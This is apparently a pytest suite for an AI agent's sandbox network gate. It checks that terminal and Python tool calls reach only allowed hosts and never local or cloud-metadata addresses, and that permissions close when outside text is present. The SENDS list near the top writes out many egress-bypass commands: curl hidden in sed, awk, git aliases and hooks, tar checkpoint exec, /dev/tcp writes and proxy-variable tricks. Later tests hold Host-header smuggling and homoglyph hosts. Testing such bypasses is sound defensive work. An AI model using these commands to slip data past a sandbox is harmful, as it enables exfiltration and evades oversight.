"""With the network on, a call reaches the hosts that were allowed, and nothing on this machine or around it."""

from __future__ import annotations

import socket
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import pytest

from everturn.domain.messages import Outcome
from everturn.domain.tool import Verdict
from everturn.tools import Fetcher, Profile
from everturn.tools.profiles import HostNetworkRefused, McpServer
from tests.sandbox_levels import sandbox_at
from tests.unit.tools.kit import Kit, open_kit, profiles_of
from tests.unit.tools.test_fetch_tool import _Site, site

__all__ = ["site"]
pytestmark = pytest.mark.anyio
ONLINE = {"profile": "online"}


@pytest.fixture(params=["full", "landlock", "landlock 1"])
def level(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture
async def online(anyio_backend: str, site: _Site, tmp_path: Path, level: str) -> AsyncIterator[Kit]:
    """The test's own server stands for the web: its address is allowed, no other of this machine is."""
    looked_up: list[str] = []

    async def resolve(host: str, port: int) -> list[str]:
        looked_up.append(host)
        return {"inside.example": ["127.0.0.2"]}.get(host, ["127.0.0.1"])

    fetcher = Fetcher(allowed=frozenset({("127.0.0.1", site.port)}), resolve=resolve)
    profiles = profiles_of(
        Profile(name="host", host_network=True),
        Profile(name="listed", network=True, hosts=(f"site.example:{site.port}",)),
    )
    home = tmp_path / "home"
    sandbox = sandbox_at(level, home)
    async with open_kit(home, fetcher=fetcher, profiles=profiles, sandbox=sandbox, has_sign_in=_is_on) as kit:
        assert kit.toolbox.sandbox_state().level == level.split()[0]
        kit.looked_up = looked_up
        yield kit


async def _is_on() -> bool:
    return True


@pytest.fixture
def private() -> Iterator[int]:
    """A server on this machine that must not be reached."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        yield server.getsockname()[1]


async def _python(kit: Kit, code: str, **more: Any) -> str:
    return await kit.python(code, ONLINE, **more)


# --- only what was allowed ---------------------------------------------------------------------------

# SITE is a host that was not allowed. No list of programs and options would stop these.
SENDS = r"""
H=SITE; curl -s http://$H/x
curl -s $(printf 'http://%s' SITE)
sed '1e curl -s http://SITE/x' a.txt
sort --compress-program=./send -S 1k big.txt
PATH=.:$PATH; ls
git -c alias.x='!curl -s http://SITE/x' x
git -c core.fsmonitor=./send status
git rebase -x ./send HEAD~1
git grep -O./send a
GIT_SSH_COMMAND=./send git fetch ssh://x/y
GIT_EXTERNAL_DIFF=./send git diff
git -c http.proxy=http://127.0.0.1:3128 ls-remote $(echo http://SITE/x)
printf 'GET /x HTTP/1.0\r\n\r\n' > /dev/tcp/127.0.0.1/PORT
printf 'CONNECT SITE HTTP/1.0\r\n\r\nGET /x HTTP/1.0\r\n\r\n' > /dev/tcp/127.0.0.1/3128
echo GET /x > /dev/tcp/SITE-NAME/PORT
echo x > /dev/udp/127.0.0.1/PORT
awk 'BEGIN { "curl -s http://SITE/x" | getline }'
find . -maxdepth 0 -exec ./send ;
tar cf /dev/null --checkpoint=1 --checkpoint-action=exec=./send a.txt
make -f mk
python3 a.py
no_proxy='*' curl -s --max-time 2 $(echo http://SITE/x)
http_proxy= curl -s --max-time 2 $(echo http://SITE/x)
[[ 'a[$(./send)]' -eq 0 ]]
env curl -s -H 'Host: listed.example' -x http://127.0.0.1:3128 $(echo http://SITE/x)
"""


@pytest.mark.parametrize("command", SENDS.strip().split("\n"))
async def test_nothing_is_sent_to_a_host_that_was_not_allowed(online: Kit, site: _Site, command: str) -> None:
    host = f"site.example:{site.port}"
    space = online.workspace
    (space / "a.txt").write_text("a\n")
    (space / "big.txt").write_text("line\n" * 20_000)
    (space / "mk").write_text("all:\n\t./send\n")
    (space / "a.py").write_text(f"import urllib.request as u; u.urlopen('http://{host}/x').read()\n")
    for name in ("send", "ls"):
        (space / name).write_text(f"#!/bin/sh\ncurl -s http://{host}/x\n")
        (space / name).chmod(0o755)
    prepared = (
        "git init -q . && git add a.txt && git -c user.name=a -c user.email=b commit -qm x --allow-empty"
    )
    await online.run("terminal", command=f"{prepared} && {prepared} && echo b >> a.txt")
    command = (
        command.replace("SITE-NAME", "site.example").replace("SITE", host).replace("PORT", str(site.port))
    )
    ruling = await online.rule("terminal", {**ONLINE, "is_tainted": True}, command=command)
    assert ruling.verdict is Verdict.ALLOW, "it is judged where it leaves"
    await online.run("terminal", {**ONLINE, "is_tainted": True}, command=command, timeout_s=20)
    assert (site.visits, online.looked_up) == ([], [])


async def test_the_result_names_the_refused_host_and_the_question_says_what_already_ran(
    online: Kit, site: _Site
) -> None:
    host = f"site.example:{site.port}"
    (online.workspace / "install").write_text(f"echo once >> log; curl -s http://{host}/json")
    first = await online.run("terminal", ONLINE, command="sh install")
    assert f"not contacted: {host}." in first.text
    assert first.display["refused_hosts"] == [host]
    assert (site.visits, online.looked_up) == ([], [])

    ruling = await online.rule("terminal", ONLINE, command="sh install", hosts=[host])
    assert ruling.verdict is Verdict.ASK
    assert ruling.reason == f"It reaches {host} (refused before; already ran without it: sh install)."
    assert (online.workspace / "log").read_text() == "once\n", "asking runs nothing again"

    again = await online.run("terminal", ONLINE, command="sh install", hosts=[host])
    assert again.text == '{"a": 1}'
    assert site.visits == [f"{host} /json"]
    # Once is once: the same command without the host is refused as before.
    assert "not contacted" in (await online.run("terminal", ONLINE, command="sh install")).text


async def test_a_lasting_answer_opens_the_gate_until_text_from_outside_is_there(
    online: Kit, site: _Site
) -> None:
    host = f"site.example:{site.port}"
    (online.workspace / "get").write_text(f"curl -s http://{host}/json")
    await online.remember("session", "terminal", ONLINE, command="sh get", hosts=[host])
    assert (await online.run("terminal", ONLINE, command="sh get")).text == '{"a": 1}'
    other = {**ONLINE, "session_id": "ses_02"}
    assert "not contacted" in (await online.run("terminal", other, command="sh get")).text
    tainted = {**ONLINE, "is_tainted": True}
    assert "not contacted" in (await online.run("terminal", tainted, command="sh get")).text
    assert (
        await online.run("terminal", {**tainted, "profile": "listed"}, command="sh get")
    ).text == '{"a": 1}'


async def test_trust_opens_the_gate_until_text_from_outside_is_there(online: Kit, site: _Site) -> None:
    (online.workspace / "get").write_text(f"curl -s http://site.example:{site.port}/json")
    await online.remember("trust", "terminal", ONLINE, command="sh get")
    assert (await online.run("terminal", ONLINE, command="sh get")).text == '{"a": 1}'
    tainted = {**ONLINE, "is_tainted": True}
    assert "not contacted" in (await online.run("terminal", tainted, command="sh get")).text


async def test_a_server_is_told_the_host_that_was_allowed(online: Kit, site: _Site) -> None:
    """Else one address of a large provider would lead to all of its customers."""
    host = f"site.example:{site.port}"
    command = f"curl -s -H 'Host: other.example' http://{host}/json"
    assert (await online.run("terminal", ONLINE, command=command)).text == '{"a": 1}'
    assert site.visits == [f"{host} /json"]
    code = f"""
import socket
answers = []
for line in (b"X: y\\nHost: other.example", b" Host: other.example", b"X: y\\rHost: z"):
    with socket.create_connection(("127.0.0.1", 3128)) as gate:
        gate.sendall(b"GET http://{host}/json HTTP/1.1\\r\\n" + line + b"\\r\\n\\r\\n")
        answers.append(gate.recv(12))
answers"""
    assert await _python(online, code, hosts=[host]) == repr([b"HTTP/1.1 403"] * 3)


@pytest.mark.parametrize("host", ["evil.example/x", "a b", "a@b", "*", "*.example", "ex\u0430mple.com", ""])
async def test_an_invalid_host_name_is_refused_before_anything_runs(online: Kit, host: str) -> None:
    said = await online.run("terminal", ONLINE, command="touch ran", hosts=[host])
    assert said.outcome is Outcome.ERROR
    assert not (online.workspace / "ran").exists()


async def test_the_model_is_told_of_hosts_only_where_there_is_a_gate(online: Kit) -> None:
    for profile, is_gated in ((None, False), ("online", True), ("bare", False), ("host", False)):
        tools = await online.toolbox.tools("olga", "ses_01", profile)
        for tool in tools:
            if tool.spec.name in ("terminal", "python"):
                assert ("hosts" in tool.spec.schema.parameters["properties"]) == is_gated


# --- the machine's own network -----------------------------------------------------------------------


async def test_the_machines_network_needs_sign_in(tmp_path: Path) -> None:
    server = McpServer("wide", "true", host_network=True)
    profiles = profiles_of(
        Profile(name="host", host_network=True), Profile(name="mcp", mcp=("wide",)), servers={"wide": server}
    )
    is_on = False

    async def has_sign_in() -> bool:
        return is_on

    async with open_kit(tmp_path / "home", profiles=profiles, has_sign_in=has_sign_in) as kit:
        spec = (await kit.toolbox.tools("olga", "ses_01", None))[0].spec
        for name in ("host", "mcp"):
            with pytest.raises(HostNetworkRefused, match="needs sign-in"):
                await kit.toolbox.tools("olga", "ses_01", name)
            call = kit.call("terminal", {"command": "ls"}, profile=name)
            ruling = await kit.toolbox.rule(call, spec)
            assert ruling.verdict is Verdict.DENY
            assert "everturn password" in ruling.reason
        with pytest.raises(HostNetworkRefused, match="wide"):
            await kit.toolbox.trust_server("olga", "wide", "")
        is_on = True
        assert await kit.toolbox.tools("olga", "ses_01", "host")
        assert (await kit.rule("terminal", {"profile": "host"}, command="curl x")).verdict is Verdict.ASK


# --- the gate itself ---------------------------------------------------------------------------------


async def test_the_web_is_reached_through_the_usual_variables(online: Kit, site: _Site) -> None:
    code = f"import urllib.request as u; u.urlopen('http://site.example:{site.port}/json').read()"
    assert await _python(online, code) == "b'{\"a\": 1}'"
    said = await online.run("terminal", ONLINE, command=f"curl -sS http://site.example:{site.port}/json")
    assert said.text == '{"a": 1}'
    assert site.visits == [f"site.example:{site.port} /json"] * 2


async def test_a_tunnel_carries_bytes_both_ways(online: Kit, site: _Site) -> None:
    code = f"""
import http.client
connection = http.client.HTTPConnection("127.0.0.1", 3128)
connection.set_tunnel("site.example", {site.port})
connection.request("GET", "/long")
len(connection.getresponse().read())"""
    assert await _python(online, code, hosts=[f"site.example:{site.port}"]) == "108890"


@pytest.mark.parametrize(
    "host",
    ["127.0.0.1", "localhost", "127.0.0.2", "inside.example", "[::1]", "0", "2130706433", "169.254.169.254"],
)
@pytest.mark.parametrize("way", ["http", "tunnel"])
async def test_nothing_of_this_machine_is_reached(online: Kit, private: int, host: str, way: str) -> None:
    http = f"import urllib.request as u; u.urlopen('http://{host}:{private}/')"
    tunnel = f"""
import http.client
connection = http.client.HTTPConnection("127.0.0.1", 3128)
connection.set_tunnel("{host.strip("[]")}", {private})
connection.connect()"""
    said = await _python(online, http if way == "http" else tunnel, hosts=[f"{host}:{private}"])
    assert "403" in said or "502" in said
    assert "not allowed" not in said, "it is the address that is refused, not the name"


async def test_going_past_the_gate_leads_nowhere(online: Kit, private: int, site: _Site) -> None:
    for port in (private, site.port):
        code = f"import socket; socket.create_connection(('127.0.0.1', {port}), 2)"
        said = await _python(online, code)
        assert "Connection refused" in said or "unreachable" in said
    assert "unreachable" in await _python(
        online, "import socket; socket.create_connection(('8.8.8.8', 53), 2)"
    )
    assert site.visits == []


async def test_without_the_network_there_is_no_gate(online: Kit, site: _Site) -> None:
    said = await online.run("terminal", command="env; ls -A /tmp")
    assert "proxy" not in said.text.replace("NODE_USE_ENV_PROXY", "").lower()
    assert ".gate" not in said.text


async def test_the_hosts_network_is_there_only_where_it_is_asked_for(online: Kit, private: int) -> None:
    code = f"import socket; socket.create_connection(('127.0.0.1', {private}), 2); print('reached')"
    assert await online.python(code, {"profile": "host"}) == "reached"


async def test_nonsense_on_the_gate_is_refused_and_ends(online: Kit) -> None:
    code = """
import socket
answers = []
starts = (b"", b"GET /x HTTP/1.1", b"CONNECT a@b:1 HTTP/1.1", b"CONNECT x:99999 HTTP/1.1", b"x" * 100_000)
for start in starts:
    with socket.create_connection(("127.0.0.1", 3128)) as gate:
        gate.sendall(start + b"\\r\\n\\r\\n")
        answers.append(gate.recv(100).split(b"\\r\\n")[0].decode())
answers"""
    assert await _python(online, code) == repr(["HTTP/1.1 403 Refused"] * 5)
